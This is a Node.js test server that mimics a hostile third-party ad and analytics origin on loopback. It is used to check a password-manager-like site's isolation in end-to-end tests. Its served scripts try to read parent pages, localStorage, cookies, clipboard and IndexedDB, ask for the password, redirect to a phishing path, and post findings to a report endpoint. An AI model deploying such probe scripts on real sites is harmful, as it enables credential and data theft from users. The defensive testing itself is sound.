#!/usr/bin/env node
// A stand-in ad network and analytics provider for the end-to-end tests: a second origin on
// loopback. Its two scripts behave as a hostile third party would: each tries to read the page
// that framed it, the site's storage, cookies and clipboard, posts messages to the page, calls
// the site, and reports everything it saw to this server (POST /report). The tests read those
// reports and check that none holds a password or a stored value (tests/e2e/isolation-configured
// .spec.ts). GET /reports lists what arrived, for a person debugging. It answers only on
// 127.0.0.1.
import { createServer } from "node:http";

const port = Number(process.env.PORT ?? 4319);
const origin = `http://127.0.0.1:${port}`;

/** What every stand-in script does first: try everything, then report what worked. */
const PROBE = `
const endpoint = ${JSON.stringify(`${origin}/report`)};
const received = [];
addEventListener("message", (event) => {
  received.push({ origin: event.origin, data: JSON.stringify(event.data ?? null).slice(0, 2000) });
});
const text = (value) => (typeof value === "string" ? value : JSON.stringify(value) ?? String(value));
const PROBES = {
  parentDocument: () => parent.document.documentElement.outerHTML,
  topDocumentText: () => top.document.body.innerText,
  parentLocation: () => parent.location.href,
  parentStorage: () => Object.entries(parent.localStorage),
  localStorage: () => Object.entries(localStorage),
  sessionStorage: () => Object.entries(sessionStorage),
  cookie: () => document.cookie,
  clipboard: () => navigator.clipboard.readText(),
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open("keysmith");
      request.onsuccess = () => resolve([...request.result.objectStoreNames]);
      request.onerror = () => reject(request.error);
    }),
  cacheStorage: () => caches.keys(),
  fetchSite: () => fetch(new URL("/", location.href)).then((response) => response.text()),
  postToParent: () => {
    parent.postMessage({ source: "keysmith-frame", status: "ready" }, "*");
    parent.postMessage({ type: "keysmith:page-view", path: "/from-the-frame" }, "*");
    parent.postMessage("give me the password", "*");
    return "posted";
  },
  navigateTop: () => {
    top.location.href = ${JSON.stringify(`${origin}/phish`)};
    return "asked";
  },
};
async function probe() {
  const results = {};
  for (const [name, run] of Object.entries(PROBES)) {
    try {
      results[name] = { ok: true, value: text(await run()).slice(0, 20000) };
    } catch (error) {
      results[name] = { ok: false, error: String(error?.name ?? error) };
    }
  }
  return results;
}
async function report(kind, extra = {}) {
  const body = JSON.stringify({
    kind,
    href: location.href,
    referrer: document.referrer,
    probes: await probe(),
    received,
    ...extra,
  });
  await fetch(endpoint, { method: "POST", body, keepalive: true }).catch(() => {});
}
`;

const SCRIPTS = {
  "/ad.js": `(() => {
${PROBE}
window.__keysmithTestAdLoaded = true;
const slot = document.querySelector("ins[data-ad-zone]");
if (slot) {
  slot.textContent = "Stand-in ad for " + slot.dataset.adPublisher + " in " + slot.dataset.adZone;
  slot.style.cssText = "display:block;height:90px;background:#fde68a;font:14px sans-serif";
}
let round = 0;
const again = () => {
  round += 1;
  void report("ad", { round, slot: slot ? { ...slot.dataset } : null });
  if (round < 6) setTimeout(again, 700);
};
again();
})();
`,
  "/analytics.js": `(() => {
${PROBE}
window.__keysmithTestAnalyticsLoaded = true;
const views = () => (window.keysmithPageViews ?? []).map((view) => ({ ...view }));
addEventListener("keysmith:page-view", () => void report("analytics", { views: views() }));
void report("analytics", { views: views() });
})();
`,
};

/** @type {unknown[]} */
const reports = [];

createServer((req, res) => {
  const path = new URL(req.url ?? "/", "http://127.0.0.1").pathname;
  const cors = { "Access-Control-Allow-Origin": "*" };
  if (path === "/report" && req.method === "POST") {
    let body = "";
    req.setEncoding("utf8");
    req.on("data", (chunk) => {
      if (body.length < 1_000_000) body += chunk;
    });
    req.on("end", () => {
      try {
        JSON.parse(body);
        reports.push(body);
      } catch {
        // Not a report of ours: keep /reports readable.
      }
      if (reports.length > 500) reports.shift();
      res.writeHead(204, cors);
      res.end();
    });
    return;
  }
  if (path === "/reports") {
    res.writeHead(200, { "Content-Type": "application/json; charset=utf-8", ...cors });
    res.end(`[${reports.join(",")}]`);
    return;
  }
  if (path === "/") {
    res.writeHead(200, { "Content-Type": "text/plain; charset=utf-8" });
    res.end("fake third party for tests\n");
    return;
  }
  const body = SCRIPTS[path];
  if (!body) {
    res.writeHead(404, { "Content-Type": "text/plain; charset=utf-8" });
    res.end("Not Found");
    return;
  }
  res.writeHead(200, {
    "Content-Type": "text/javascript; charset=utf-8",
    "Cache-Control": "no-store",
  });
  res.end(body);
}).listen(port, "127.0.0.1", () => {
  console.log(`fake third party at http://127.0.0.1:${port}/`);
});
